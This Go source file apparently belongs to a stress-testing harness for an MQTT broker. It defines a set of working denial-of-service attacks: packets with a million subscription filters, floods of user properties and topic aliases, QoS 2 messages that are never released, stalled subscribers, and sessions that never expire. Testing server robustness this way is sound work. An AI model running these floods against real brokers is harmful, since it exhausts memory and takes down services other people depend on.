//go:build linux

package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync/atomic"
	"time"
)

// clients logs in and runs a client on each connection. It gives each a number.
func (a *attacker) clients(n int, version byte, client func(c net.Conn, i int)) error {
	var next atomic.Int64
	return a.each(n, func(c net.Conn) {
		i := int(next.Add(1))
		if login(c, version, fmt.Sprintf("attacker%d", i), nil) == nil {
			client(c, i)
		}
	})
}

// once sends a packet once and reads the answers until the time is up.
func (a *attacker) once(c net.Conn, p []byte) {
	a.write(c, p)
	drop(c)
}

// oneFilter is a filter of SUBSCRIBE with one letter: four bytes.
var oneFilter = append(text("a"), 0)

func subscribeMillion(a *attacker) error {
	return a.clients(1, 4, func(c net.Conn, _ int) {
		a.once(c, packet(0x82, number(1), slices.Repeat(oneFilter, a.size(1_000_000, 100_000))))
	})
}

// subscribeControl does it with a client identifier of control characters.
func subscribeControl(a *attacker) error {
	return a.each(1, func(c net.Conn) {
		if login(c, 4, strings.Repeat("\x01", 65_000), nil) == nil {
			a.once(c, packet(0x82, number(1), slices.Repeat(oneFilter, a.size(2000, 500))))
		}
	})
}

// subscribeRetained stores retained messages and asks for all of them, many times in one packet.
func subscribeRetained(a *attacker) error {
	return a.clients(1, 4, func(c net.Conn, _ int) {
		var stored []byte
		for i := range a.size(15_000, 3000) {
			stored = append(stored, publish(4, 1, fmt.Sprintf("r/%d", i), []byte("x"))...)
		}
		if a.write(c, stored) {
			a.once(c, packet(0x82, number(1), slices.Repeat(append(text("#"), 0), a.size(19_500, 2000))))
		}
	})
}

// tinyPublishes publishes to a server whose other clients have a thousand filters each.
func tinyPublishes(a *attacker) error {
	var ready atomic.Int64
	segment := many(publish(4, 0, "t", nil))
	return a.clients(11, 4, func(c net.Conn, i int) {
		if i == 11 {
			for ready.Load() < 10 && !a.over() {
				time.Sleep(time.Millisecond)
			}
			a.repeat(c, segment)
			return
		}
		var filters []string
		for j := range 1000 {
			filters = append(filters, fmt.Sprintf("%d/%d/+/#", i, j))
		}
		subscribe(c, 4, filters...)
		ready.Add(1)
		drop(c)
	})
}

// wills logs in with wills of many properties.
func wills(a *attacker) error {
	all := userProperties(838_000) // a packet of almost 4 MiB
	will := slices.Concat(properties(5, all), text("w"), text(""))
	return a.each(a.size(10, 6), func(c net.Conn) {
		if login(c, 5, "", will) == nil {
			drop(c)
		}
	})
}

// retained stores retained messages, each with its own topic.
func retained(payload int) func(a *attacker) error {
	return func(a *attacker) error {
		p := make([]byte, payload)
		return a.clients(2, 4, func(c net.Conn, i int) {
			go drop(c)
			for j := 0; ; {
				var segment []byte
				for len(segment) < 64<<10 {
					segment = append(segment, publish(4, 1, fmt.Sprintf("%d/%d", i, j), p)...)
					j++
				}
				if !a.write(c, segment) {
					return
				}
			}
		})
	}
}

// aliases sets topic aliases to long topics.
func aliases(a *attacker) error {
	return a.again(4, func(c net.Conn) {
		defer reset(c)
		if login(c, 5, "", nil) != nil {
			return
		}
		go drop(c)
		for i := 1; i < 65_536; i++ {
			topic := fmt.Sprintf("%d/%s", i, strings.Repeat("x", 60_000))
			alias := binary.BigEndian.AppendUint16([]byte{35}, uint16(i))
			if !a.write(c, packet(0x30, text(topic), properties(5, alias))) {
				return
			}
		}
	})
}

// propertyBombs sends packets of each kind with many user properties.
func propertyBombs(a *attacker) error {
	props := properties(5, userProperties(800_000))
	packets := [][]byte{
		packet(0x30, text("p"), props),                          // PUBLISH
		packet(0x32, text("p"), number(1), props),               // PUBLISH, QoS 1
		packet(0x82, number(1), props, oneFilter),               // SUBSCRIBE
		packet(0xa2, number(2), props, text("a")),               // UNSUBSCRIBE
		packet(0x40, number(3), []byte{0}, props),               // PUBACK
		packet(0x50, number(3), []byte{0}, props),               // PUBREC
		packet(0xe0, []byte{0}, props),                          // DISCONNECT
		packet(0xf0, []byte{0}, props),                          // AUTH
		packet(0x31, text("p"), props),                          // PUBLISH, retained
		packet(0x34, text("p"), number(4), props, []byte("pp")), // PUBLISH, QoS 2
	}
	var next atomic.Int64
	return a.again(4, func(c net.Conn) {
		defer reset(c)
		go time.AfterFunc(time.Until(a.until()), func() { c.Close() })
		if login(c, 5, "", nil) == nil {
			go drop(c)
			for range 10 {
				if !a.write(c, packets[next.Add(1)%int64(len(packets))]) {
					return
				}
			}
		}
	})
}

// unreleased sends PUBLISH with QoS 2 and never PUBREL.
func unreleased(a *attacker) error {
	return a.clients(10, 4, func(c net.Conn, _ int) {
		go drop(c)
		for id := 1; ; {
			var segment []byte
			for len(segment) < 64<<10 && id < 65_536 {
				segment = append(segment, packet(0x34, text("q"), number(uint16(id)), []byte("x"))...)
				id++
			}
			if len(segment) == 0 || !a.write(c, segment) {
				a.wait()
				return
			}
		}
	})
}

// unreadSubscribers subscribes to what others publish, and reads nothing.
func unreadSubscribers(a *attacker) error {
	var ready atomic.Int64
	p := publish(4, 0, "u", make([]byte, 16<<10))
	return a.clients(21, 4, func(c net.Conn, i int) {
		if i == 21 {
			for ready.Load() < 20 && !a.over() {
				time.Sleep(time.Millisecond)
			}
			a.repeat(c, p)
			return
		}
		subscribe(c, 4, "u")
		ready.Add(1)
		a.wait()
	})
}

// sessions makes sessions that outlive their connections, each with a queue that is filled.
func sessions(a *attacker) error {
	var next atomic.Int64
	expiry := binary.BigEndian.AppendUint32([]byte{17}, 0xffffffff)
	return a.again(4, func(c net.Conn) {
		defer reset(c)
		id := fmt.Sprintf("session%d", next.Add(1))
		connect := packet(0x10, text("MQTT"), []byte{5, 0}, number(0), properties(5, expiry), text(id))
		if loginWith(c, connect) != nil {
			return
		}
		filters := append(text("s"), 1) // QoS 1
		c.Write(packet(0x82, number(1), properties(5, nil), filters))
		readPacket(c)
		a.write(c, slices.Repeat(packet(0x32, text("s"), number(1), properties(5, nil), make([]byte, 1000)), 10))
	})
}
